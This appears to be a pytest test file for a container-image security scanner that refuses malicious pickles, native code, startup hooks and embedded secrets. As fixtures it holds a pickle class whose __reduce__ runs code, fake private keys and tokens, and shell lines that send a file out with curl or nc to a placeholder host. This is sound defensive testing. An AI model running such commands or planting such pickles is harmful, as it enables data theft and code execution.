"""Files by content, what starts, the child process, and the forms of the report."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import sys
import tracemalloc
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import cast

import numpy as np
import pytest

from rapha.cli import main
from rapha.runtime.image import File, Image, build
from rapha.runtime.scan import (
    Finding,
    ScanReport,
    parse_rules,
    refusals,
    run_in_process,
    sarif,
    sbom,
    scan,
    scanner,
)
from rapha.runtime.scan.blob import Memory
from rapha.runtime.scan.report import MAX_REASON
from rapha.spec.refusals import REGISTRY, Refused

KEY = b"-----BEGIN %s-----\nMC4CAQAwBQYDK2VwBCIEIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f\n"
LOCKED_KEY = (
    b"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n" + b"A" * 64
)


def image(
    files: dict[str, bytes], entry: tuple[str, ...] = ("python3", "train.py"), workdir: str = "/app"
) -> Image:
    files = {"train.py": b"print(1)\n", **files}
    return Image(
        digest="sha256:" + "0" * 64,
        entrypoint=entry,
        predict=None,
        runtime="rt",
        workdir=workdir,
        files=held({f"app/{name}": data for name, data in files.items()}),
        tree=Path("/none"),
    )


def held(files: Mapping[str, bytes]) -> Mapping[str, File]:
    """Files in memory: the scanner asks one for its size and its bytes, and nothing else."""
    return cast(Mapping[str, File], {path: Memory(data) for path, data in sorted(files.items())})


def zipped(name: str, data: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def npy(array: object) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)  # type: ignore[arg-type]
    return out.getvalue()


def npz() -> bytes:
    out = io.BytesIO()
    np.savez(out, a=np.zeros(3))
    return out.getvalue()


class Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return print, ("owned",)


def pickles() -> dict[str, bytes]:
    values = {f"protocol {n}": pickle.dumps(Evil(), protocol=n) for n in range(6)}
    return {**values, "broken off": pickle.dumps(Evil(), protocol=4)[:-1] + b"\xff"}


HOSTILE_FILES: list[tuple[str, bytes, str]] = [
    *((f"weights/{name}", data, "image.pickle") for name, data in pickles().items()),
    ("w.pkl", b"anything", "image.pickle"),
    ("w.pt", b"anything", "image.pickle"),
    ("w.pth", zipped("archive/data.pkl"), "image.pickle"),
    ("w", zipped("archive/data.pkl"), "image.pickle"),
    ("w.gz", gzip.compress(pickle.dumps(Evil())), "image.pickle"),
    ("a.npy", npy(np.array([Evil()], dtype=object)), "image.pickle"),
    ("a.npy", npy(np.array([(1, Evil())], dtype=[("x", "i4"), ("y", "O")])), "image.pickle"),
    ("lib.so", b"", "image.native_code"),
    ("lib.so.1", b"", "image.native_code"),
    ("fast.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", "image.native_code"),
    ("data.csv", b"\x7fELF\2\1\1", "image.native_code"),
    ("data.bin", b"MZ" + bytes(100) + b"PE\0\0", "image.native_code"),
    ("data.bin", b"\xcf\xfa\xed\xfe", "image.native_code"),
    ("data.bin", b"\0asm\1\0\0\0", "image.native_code"),
    ("helper.pyc", b"", "image.native_code"),
    ("data.bin", b"\xa7\x0d\r\n" + bytes(12), "image.native_code"),
    ("lib.zip", zipped("evil.py"), "image.dynamic_code"),
    ("notes.txt", b"hello" + zipped("__main__.py"), "image.dynamic_code"),
    ("broken.zip", zipped("a.txt")[:40] + b"PK\5\6", "image.dynamic_code"),
    ("evil.pth", b"import os\n", "image.startup_hook"),
    ("python311._pth", b".", "image.startup_hook"),
    ("sitecustomize.py", b"", "image.startup_hook"),
    ("lib/usercustomize/__init__.py", b"", "image.startup_hook"),
    ("pyvenv.cfg", b"home = x", "image.startup_hook"),
    ("id", KEY % b"PRIVATE KEY", "image.secret"),
    ("id", KEY % b"RSA PRIVATE KEY", "image.secret"),
    ("id", KEY % b"ENCRYPTED PRIVATE KEY", "image.secret"),
    ("id", KEY % b"OPENSSH PRIVATE KEY", "image.secret"),
    ("id", (KEY % b"RSA PRIVATE KEY").replace(b"\n", b"\r\n"), "image.secret"),
    ("account.json", json.dumps({"private_key": (KEY % b"PRIVATE KEY").decode()}).encode(), "image.secret"),
    ("config.py", b"KEY = " + repr((KEY % b"EC PRIVATE KEY").decode()).encode(), "image.secret"),
    ("id", LOCKED_KEY, "image.secret"),
    ("c", b"aws_access_key_id = AKIA" + b"Q3EGRIR7ZXCVBNMA", "image.secret"),
    ("c", b"token: ghp_" + b"a1B2c3D4e5F6" * 3, "image.secret"),
    ("c", b"hf_" + b"abcdefghijklmnopq" * 2, "image.secret"),
    ("c", b"AGE-SECRET-KEY-1" + b"Q" * 58, "image.secret"),
    ("results.hpke", b"A" * 43 + b"=\n", "image.secret"),
    ("store.p12", b"", "image.secret"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "code"), HOSTILE_FILES)
def test_a_hostile_file_is_refused_by_its_presence(name: str, data: bytes, code: str) -> None:
    found = refusals(scan(image({name: data})))
    assert code in {f.rule for f in found if f.path == f"app/{name}"}


BENIGN_FILES: list[tuple[str, bytes]] = [
    ("a.npy", npy(np.zeros(4))),
    ("a.npy", npy(np.array([(True, 1.0)], dtype=[("BOOL", "?"), ("OK", "f4")]))),
    ("a.npz", npz()),
    ("data.zip", zipped("table.csv")),
    ("README.md", b"cats\nand dogs are fine. import socket; exec(x).\n(end)."),
    ("notes.txt", b"Paste the text after -----BEGIN PRIVATE KEY----- into the form, never here."),
    ("notes.txt", b"AKIAIOSFODNN7EXAMPLE is AWS's own example; github tokens start with ghp_"),
    ("key.pub", b"A" * 43 + b"=\n"),
    ("cert.pem", b"-----BEGIN CERTIFICATE-----\n" + b"A" * 64 + b"\n-----END CERTIFICATE-----\n"),
    ("model.safetensors", (16).to_bytes(8, "little") + b'{"__a__":{}}    '),
    ("config.yaml", b"socket: no\nexec: eval\n"),
    ("data.csv", b"MZ,1,2\nPE,3,4\n"),
    ("data.csv.gz", gzip.compress(b"a,b\n1,2\n")),
    ("data.csv.gz", b"\x1f\x8bnot gzip after all"),
    ("empty", b""),
    ("notebook.ipynb", b'{"cells": []}'),
]


@pytest.mark.parametrize(("name", "data"), BENIGN_FILES)
def test_an_ordinary_file_has_no_finding(name: str, data: bytes) -> None:
    assert scan(image({name: data})).findings == ()


@pytest.mark.parametrize(
    ("name", "data", "rule", "line"),
    [
        ("run.sh", b"echo hi\ncurl -d @/rapha/in http://x\n", "image.network_module", 2),
        ("run", b"#!/bin/bash\nset -e\n\n/usr/bin/nc x 1 < f\n", "image.network_module", 4),
        ("run.sh", b"eval $x\n", "image.dynamic_code", 1),
        ("tool", b"#!/usr/bin/perl\nprint 1;\n", "image.subprocess", 1),
    ],
)
def test_a_script_for_another_program_warns(name: str, data: bytes, rule: str, line: int) -> None:
    (finding,) = scan(image({name: data})).findings
    assert (finding.rule, finding.severity, finding.line) == (rule, "warn", line)


@pytest.mark.parametrize("data", [pickle.dumps([1, 2]), pickle.dumps({"a": np.zeros(3)})])
def test_a_pickle_of_nothing_but_data_warns(data: bytes) -> None:
    for name in ("w", "w.pkl", "w.pth"):
        (finding,) = scan(image({name: data})).findings
        assert (finding.rule, finding.severity) == ("image.pickle", "warn")


def test_python_is_python_by_its_first_line_or_because_it_starts() -> None:
    report = scan(image({"tool": b"#!/usr/bin/env python3\nimport socket\n"}))
    assert [(f.rule, f.severity) for f in report.findings] == [("image.network_module", "warn")]
    report = scan(image({"job.txt": b"import socket\n"}, ("python3", "job.txt")))
    assert [(f.rule, f.severity) for f in report.findings] == [("image.network_module", "refuse")]


# --- what starts -----------------------------------------------------------------------------------

FILES = {
    "pkg/__init__.py": b"",
    "pkg/__main__.py": b"import helper\n",
    "pkg/job.py": b"import helper\n",
    "helper.py": b"import socket\n",
    "pkg/helper.py": b"import ssl\n",
}


@pytest.mark.parametrize(
    ("argv", "reached"),
    [
        (("python3", "pkg/job.py"), "app/pkg/helper.py"),
        (("python", "./pkg/job.py", "--flag", "x"), "app/pkg/helper.py"),
        (("/usr/bin/python3.11", "-u", "-W", "ignore", "-X", "dev", "/app/pkg/job.py"), "app/pkg/helper.py"),
        (("python3", "-Wignore", "-OO", "pkg"), "app/pkg/helper.py"),
        (("python3", "-m", "pkg.job"), "app/helper.py"),
        (("python3", "-mpkg"), "app/helper.py"),
        (("python3", "-c", "import pkg.job"), "app/helper.py"),
        (("python3", "-cimport helper"), "app/helper.py"),
    ],
)
def test_an_entrypoint_is_followed_as_python_does(argv: tuple[str, ...], reached: str) -> None:
    found = refusals(scan(image(FILES, argv)))
    assert [f.path for f in found] == [reached]


def test_code_on_the_command_line_is_judged() -> None:
    (finding,) = scan(image({}, ("python3", "-c", "import os\nos.system('x')"))).findings
    assert (finding.rule, finding.line, finding.severity) == ("image.subprocess", 2, "refuse")


@pytest.mark.parametrize(
    ("argv", "code"),
    [
        ((), "image.entrypoint_missing"),
        (("python3", "none.py"), "image.entrypoint_missing"),
        (("python3", "../etc/x.py"), "image.entrypoint_missing"),
        (("python3", "/usr/lib/x.py"), "image.entrypoint_missing"),
        (("python3", "-m", "http.server"), "image.entrypoint_missing"),
        (("python3", "-m"), "image.entrypoint_missing"),
        (("python3",), "image.dynamic_code"),
        (("python3", "-"), "image.dynamic_code"),
        (("python3", "-i", "train.py"), "image.dynamic_code"),
        (("python3", "-x", "train.py"), "image.dynamic_code"),
        (("python3", "--check-hash-based-pycs", "never", "train.py"), "image.dynamic_code"),
        (("sh", "-c", "python3 train.py"), "image.subprocess"),
        (("./python3", "train.py"), "image.subprocess"),
        (("env", "python3", "train.py"), "image.subprocess"),
        (("torchrun", "train.py"), "image.subprocess"),
        (("train.py",), "image.subprocess"),
    ],
)
def test_an_entrypoint_that_can_not_be_followed_is_refused(argv: tuple[str, ...], code: str) -> None:
    assert [f.rule for f in refusals(scan(image({}, argv)))] == [code]


def test_the_working_folder_is_where_scripts_are_looked_for() -> None:
    assert scan(image({"sub/job.py": b"1"}, ("python3", "job.py"), "/app/sub")).ok
    assert not scan(image({}, ("python3", "train.py"), "/")).ok
    assert scan(image({}, ("python3", "app/train.py"), "/")).ok


def test_files_outside_app_are_pointed_out() -> None:
    inside = image({})
    outside = replace(inside, files={**inside.files, **held({"etc/x": b""})})
    (finding,) = scan(outside).findings
    assert (finding.severity, finding.path) == ("info", "")


# --- report ----------------------------------------------------------------------------------------


def test_findings_are_counted_gravest_first_and_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scanner, "MAX_FINDINGS", 3)
    report = scan(image({"train.py": b"import socket\n", **{f"o{n}.py": b"import ssl\n" for n in range(9)}}))
    assert [f.severity for f in report.findings] == ["refuse", "warn", "warn"]
    assert (report.ok, report.files) == (False, 10)


def test_reasons_are_bounded_and_can_be_written_down() -> None:
    report = scan(image({"train.py": b"__import__('socket.\\ud800" + b"x" * 2000 + b"')"}))
    json.dumps(report.dump()).encode()
    assert all(len(f.reason) <= MAX_REASON for f in report.findings)


def test_rules_are_data() -> None:
    table = {
        "version": "mine",
        "names": {"image.network_module": ["colours"]},
        "allowed": ["colours.blue"],
        **{part: {} for part in ("attributes", "keywords")},
        **{part: [] for part in ("reexported", "opaque", "writable", "protected", "shell_network")},
        **{part: [] for part in ("slight", "methods", "pickle_data")},
        "symbols": {},
    }
    rules = parse_rules(table)
    assert scan(image({"train.py": b"import socket, colours.blue"}), rules).ok
    report = scan(image({"train.py": b"import colours.red"}), rules)
    assert (report.ok, report.scanner_version) == (False, "2/mine")


def test_sarif_places_each_finding() -> None:
    report = scan(image({"train.py": b"import socket\n", "a b.so": b""}))
    log = sarif(report)
    (run,) = log["runs"]
    assert log["version"] == "2.1.0"
    places = {
        (r["ruleId"], r["level"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"])
        for r in run["results"]
    }
    assert places == {
        ("image.network_module", "error", "app/train.py"),
        ("image.native_code", "error", "app/a%20b.so"),
    }
    assert all(run["tool"]["driver"]["rules"][r["ruleIndex"]]["id"] == r["ruleId"] for r in run["results"])


def test_the_bill_of_materials_names_every_file_with_its_hash() -> None:
    bill = sbom(image({"a": b""}))
    assert (bill["bomFormat"], bill["specVersion"]) == ("CycloneDX", "1.6")
    assert {c["name"]: c["hashes"][0]["content"][:8] for c in bill["components"]}["app/a"] == "e3b0c442"
    assert len({c["bom-ref"] for c in bill["components"]}) == 2


def test_every_rule_is_a_registered_code() -> None:
    for _, _, code in HOSTILE_FILES:
        assert code in REGISTRY


def test_many_small_files_stay_small() -> None:
    files = {
        f"p{n // 50}/m{n}.py": b"import os\n\ndef f(x):\n    return os.path.join(x, 'a')\n"
        for n in range(500)
    }
    tracemalloc.start()
    try:
        assert scan(image(files)).ok
        assert tracemalloc.get_traced_memory()[1] < 64 * 1024 * 1024
    finally:
        tracemalloc.stop()


# --- child process and command ---------------------------------------------------------------------


@pytest.fixture
def layout(tmp_path: Path) -> Path:
    (tmp_path / "s").mkdir()
    (tmp_path / "s" / "train.py").write_text("import json\n")
    build(tmp_path / "s", tmp_path / "o", entrypoint=["python3", "train.py"], predict=None, runtime="rt")
    return tmp_path / "o"


def test_the_child_gives_the_same_report(layout: Path) -> None:
    report = run_in_process(layout)
    assert report.ok
    assert report.digest.startswith("sha256:")
    assert report.files == 1


def test_the_child_hands_a_refusal_back(tmp_path: Path) -> None:
    with pytest.raises(Refused, match=r"image\.not_found"):
        run_in_process(tmp_path / "none")


def test_a_child_without_an_answer_is_a_refusal(layout: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Refused, match=r"node\.internal.*took over"):
        run_in_process(layout, 0.001)
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with pytest.raises(Refused, match=r"node\.internal.*without an answer"):
        run_in_process(layout)


def test_the_command_says_yes(layout: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main.run(["scan", str(layout), "--json"]) == 0
    out, err = capsys.readouterr()
    answer = json.loads(out)
    assert (answer["ok"], answer["findings"]) == (True, [])
    assert "0 refuse" in err


def test_the_command_says_no_and_writes_reports(
    layout: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "s" / "train.py").write_text("import socket\n")
    build(tmp_path / "s", layout, entrypoint=["python3", "train.py"], predict=None, runtime="rt")
    arguments = ["--sarif", str(tmp_path / "s.json"), "--sbom", str(tmp_path / "b.json")]
    assert main.run(["scan", str(layout), "--json", *arguments]) == 1
    out, err = capsys.readouterr()
    (finding,) = json.loads(out)["findings"]
    assert set(finding) == {"rule", "severity", "path", "line", "reason", "fix"}
    assert "app/train.py:1" in err
    assert json.loads((tmp_path / "s.json").read_text())["runs"][0]["results"]
    assert json.loads((tmp_path / "b.json").read_text())["components"][0]["name"] == "app/train.py"


def test_the_command_reports_an_unreadable_image_as_a_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "x.tar").write_bytes(b"not a tar")
    assert main.run(["scan", str(tmp_path / "x.tar"), "--json", "--sbom", str(tmp_path / "b")]) == 1
    answer = json.loads(capsys.readouterr().out)
    assert (answer["digest"], answer["findings"][0]["rule"]) == ("", "image.layout_invalid")
    assert not (tmp_path / "b").exists()


def test_a_wrong_call_is_2(layout: Path, tmp_path: Path) -> None:
    assert main.run(["scan", str(tmp_path / "none")]) == 2
    assert main.run(["scan", str(layout), "--sarif", str(tmp_path / "no" / "folder")]) == 2


def test_not_finding_out_is_3(layout: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", "/bin/false")
    assert main.run(["scan", str(layout)]) == 3


def test_a_report_survives_the_wire() -> None:
    finding = Finding(rule="image.secret", severity="refuse", path="app/a", line=None, reason="r", fix="f")
    report = ScanReport(ok=False, digest="d", findings=(finding,), scanner_version="1/1", files=1)
    assert ScanReport.parse(json.loads(json.dumps(report.dump()))) == report
